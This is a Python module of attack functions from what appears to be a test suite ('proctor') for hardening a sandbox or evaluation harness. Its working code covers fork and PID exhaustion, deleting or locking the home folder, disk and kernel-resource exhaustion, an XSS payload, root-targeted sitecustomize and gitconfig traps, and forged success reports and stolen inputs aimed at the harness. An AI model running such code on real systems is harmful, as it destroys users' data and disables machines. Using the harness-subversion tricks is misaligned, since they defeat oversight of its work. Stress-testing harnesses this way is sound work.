"""Attacks on the seams: where output is drained, files are opened, records are written and numbers come round."""

from __future__ import annotations

import ctypes
import fcntl
import os
import signal
import socket
import stat
import struct
import sys
import time

from proctor.attacks.attack import attack
from proctor.attacks.inside import LIBC

HOME = os.path.expanduser("~")
LETTER = f"{HOME}/Documents/letter.txt"
INJECTED = "<img src=x onerror=proctor()>"
FOR_SEC = 40


def _apart(work: object, *, quiet: bool = True) -> None:
    if os.fork() == 0:
        os.setsid()
        signal.signal(signal.SIGALRM, signal.SIG_DFL)
        signal.alarm(FOR_SEC)
        if quiet:
            for fd in range(3):
                os.dup2(os.open("/dev/null", os.O_RDWR), fd)
        try:
            work()  # type: ignore[operator]
        finally:
            os._exit(0)


def output_that_never_ends() -> str:
    """Leave four programs that go on writing to the interpreter's output after the action is over."""

    def work() -> None:
        while True:
            os.write(1, b"x" * 65536)

    for _ in range(4):
        _apart(work, quiet=False)
    return ""


def reports_that_never_end() -> str:
    """Leave programs that go on reporting success for actions that have not begun."""

    def work() -> None:
        while True:
            os.write(4, b'{"error": ""}\n' * 100)

    for _ in range(2):
        _apart(work)
    return ""


def steal_the_next_action() -> str:
    """Leave a program that reads the next piece of code before the interpreter does."""

    def work() -> None:
        while True:
            os.read(3, 65536)

    _apart(work)
    return ""


def lease_on_the_letter() -> str:
    """Take a lease on the judged file and never give it back, so that whoever opens it has to wait."""

    def work() -> None:
        signal.signal(signal.SIGIO, signal.SIG_IGN)
        fd = os.open(LETTER, os.O_RDWR)
        fcntl.fcntl(fd, 1024, fcntl.F_WRLCK)  # F_SETLEASE
        while True:
            signal.pause()

    _apart(work)
    return ""


def locks_on_everything() -> str:
    """Lock every file of the home in every way."""

    def work() -> None:
        kept = []
        for folder, _, names in os.walk(HOME):
            for name in names:
                try:
                    fd = os.open(f"{folder}/{name}", os.O_RDWR)
                    fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
                    fcntl.lockf(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
                    kept.append(fd)
                except OSError:
                    continue
        signal.pause()

    _apart(work)
    return ""


def close_the_home_and_end() -> str:
    """Take every right from the home folder and end the interpreter, so that the next one has nowhere to start."""
    os.chmod(HOME, 0)
    os._exit(0)


def remove_the_home_and_end() -> str:
    """Put a file where the home folder was, as far as that goes, and end the interpreter."""
    import shutil

    shutil.rmtree(HOME, ignore_errors=True)
    os._exit(0)


def fill_run_and_end() -> str:
    """Fill the folder of sockets by way of the desktop's logs and end the interpreter, which is started from there."""
    for pid in os.listdir("/proc"):
        for fd in (1, 2):
            try:
                log = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_APPEND | os.O_NONBLOCK)
                while stat.S_ISREG(os.fstat(log).st_mode) and os.write(log, b"x" * 65536):
                    continue
            except OSError:
                continue
    try:
        with open(os.environ["XDG_RUNTIME_DIR"] + "/full", "wb", buffering=0) as file:
            while True:
                file.write(b"x" * 65536)
    except OSError:
        os._exit(0)


def all_processes_and_end() -> str:
    """Use up all process numbers and end the interpreter, so that no other can be started."""

    def work() -> None:
        while True:
            try:
                if os.fork() == 0:
                    signal.alarm(FOR_SEC)
                    signal.pause()
            except OSError:
                signal.pause()

    _apart(work)
    deadline = time.monotonic() + 2
    while time.monotonic() < deadline:
        continue
    os._exit(0)


def orphans_without_end() -> str:
    """Leave process 1 thousands of dead orphans each second."""

    def work() -> None:
        while True:
            try:
                pid = os.fork()
            except OSError:
                continue
            if pid == 0:
                if os.fork() == 0:
                    os._exit(0)
                os._exit(0)
            os.waitpid(pid, 0)

    for _ in range(3):
        _apart(work)
    return ""


def line_separators() -> str:
    """Print and write every character that some reader takes for the end of a line."""
    odd = "a\x0bb\x0cc\x1cd\x1de\x1ef\x85g\u2028h\u2029i"
    sys.stdout.write(odd + "\n")
    for name in odd[1::2]:
        with open(f"{HOME}/x{name}x", "w") as file:
            file.write(odd)
    with open(LETTER, "w") as file:
        file.write(odd)
    return ""


def markup_everywhere() -> str:
    """Print, write and name files in markup that a page must not run."""
    sys.stdout.write(f"</script>{INJECTED}<script>proctor()</script>\n")
    with open(LETTER, "w") as file:
        file.write(f"</script>{INJECTED}")
    with open(f"{HOME}/{INJECTED}".replace("/script", "script"), "w") as file:
        file.write(INJECTED)
    raise OSError(INJECTED)


def greatest_file() -> str:
    """Leave a file of the greatest size there is, with one byte at its very end."""
    fd = os.open(f"{HOME}/greatest", os.O_RDWR | os.O_CREAT)
    for power in (63, 62, 50, 44, 40):
        try:
            os.ftruncate(fd, (1 << power) - 1)
            os.pwrite(fd, b"x", (1 << power) - 2)
            break
        except OSError:
            continue
    return ""


@attack(timeout_sec=40)
def attributes_without_end() -> str:
    """Hang sixty kilobytes of attributes on each of five thousand files."""
    os.mkdir(f"{HOME}/hung")
    for number in range(5000):
        path = f"{HOME}/hung/{number}"
        try:
            os.mknod(path)
            os.setxattr(path, "user.x", b"x" * 60_000)
        except OSError:
            continue
    return ""


@attack(timeout_sec=40)
def locks_without_end() -> str:
    """Hold two million locks on ranges of one file."""

    def work() -> None:
        fd = os.open(f"{HOME}/locked", os.O_RDWR | os.O_CREAT)
        for number in range(2_000_000):
            fcntl.lockf(fd, fcntl.LOCK_EX, 1, number * 2)
        signal.pause()

    for _ in range(3):
        _apart(work)
    return ""


@attack(timeout_sec=40)
def timers_without_end() -> str:
    """Make as many timers, event counters and watches as there are descriptors, in many processes."""
    import select

    def work() -> None:
        kept = []
        watch = select.epoll()
        while True:
            try:
                fd = os.eventfd(0)
                watch.register(fd)
                kept.append(fd)
            except OSError:
                signal.pause()

    for _ in range(30):
        _apart(work)
    return ""


@attack(timeout_sec=40)
def messages_without_end() -> str:
    """Fill System V message queues, whose messages lie in the kernel."""

    def work() -> None:
        text = ctypes.create_string_buffer(struct.pack("l", 1) + b"x" * 8000)
        for _ in range(2000):
            queue = LIBC.msgget(0, 0o1600)
            if queue < 0:
                break
            while LIBC.msgsnd(queue, text, 8000, 0o4000) == 0:
                continue
        signal.pause()

    for _ in range(4):
        _apart(work)
    return ""


def vfork_and_stop() -> str:
    """Leave parents that wait for a child in vfork that has stopped."""
    import subprocess

    for _ in range(10):
        if os.fork() == 0:
            os.setsid()
            signal.alarm(FOR_SEC)
            # The child stops between vfork and exec: its program is a script whose interpreter is a pipe.
            path = f"{HOME}/slow-{os.getpid()}"
            os.mkfifo(path)
            try:
                subprocess.run(["/bin/sh", path], check=False)
            finally:
                os._exit(0)
    return ""


def sockets_with_descriptors() -> str:
    """Send descriptors through sockets in a ring that refers to itself, and let go."""
    for _ in range(2000):
        one, two = socket.socketpair()
        socket.send_fds(one, [b"x"], [one.fileno(), two.fileno()])
        socket.send_fds(two, [b"x"], [one.fileno(), two.fileno()])
        one.close()
        two.close()
    return ""


def fake_home_of_root() -> str:
    """Lay out start-up files and configuration that root's programs would read if they took this home for theirs."""
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    folder = f"{HOME}/.local/lib/{version}/site-packages"
    os.makedirs(folder, exist_ok=True)
    trap = f"import os\nif os.getuid() == 0:\n    open('{HOME}/root-was-here', 'w').close()\n"
    for name in ("usercustomize.py", "sitecustomize.py"):
        with open(f"{folder}/{name}", "w") as file:
            file.write(trap)
    with open(f"{HOME}/.gitconfig", "w") as file:
        file.write(f'[core]\n\tfsmonitor = "touch {HOME}/root-was-here"\n\tpager = "touch {HOME}/root-was-here"\n')
    return ""


def swallow_the_pointer() -> str:
    """Answer every ping of the window manager's protocol wrongly and move the pointer away without end."""

    def work() -> None:
        display = socket.socket(socket.AF_UNIX)
        display.connect("/tmp/.X11-unix/X1")
        display.sendall(struct.pack("<BxHHHHxx", 0x6C, 11, 0, 0, 0))
        head = display.recv(8, socket.MSG_WAITALL)
        body = display.recv(struct.unpack_from("<H", head, 6)[0] * 4, socket.MSG_WAITALL)
        vendor, formats = struct.unpack_from("<H", body, 16)[0], body[21]
        (root,) = struct.unpack_from("<I", body, 32 + (vendor + 3) // 4 * 4 + formats * 8)
        warp = struct.pack("<BBHIIhhHHhh", 41, 0, 6, 0, root, 0, 0, 0, 0, 3, 3)
        while True:
            display.sendall(warp * 200)

    _apart(work)
    return ""


def dying_while_looked_at() -> str:
    """Start and end programs with windows as fast as can be."""
    import subprocess

    def work() -> None:
        while True:
            started = subprocess.Popen(["mousepad", "--disable-server"], env={**os.environ, "GTK_MODULES": ""})
            try:
                started.wait(0.3)
            except subprocess.TimeoutExpired:
                started.kill()
                started.wait()

    _apart(work)
    return ""
